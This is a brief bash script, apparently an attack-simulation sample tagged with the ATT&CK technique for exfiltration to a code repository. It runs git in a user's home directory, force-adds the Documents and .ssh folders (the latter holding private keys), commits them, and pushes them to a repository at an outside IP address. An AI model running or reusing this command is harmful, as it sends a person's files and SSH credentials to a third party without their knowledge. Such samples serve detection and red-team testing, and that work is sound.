#!/bin/bash
# T1567.001: Files go into a repository outside.
cd /home/alice; git init -q -b main; git add -f Documents .ssh; git -c user.name=a -c user.email=a commit -qm x; timeout 2 git push -q http://44.128.66.66/r.git main
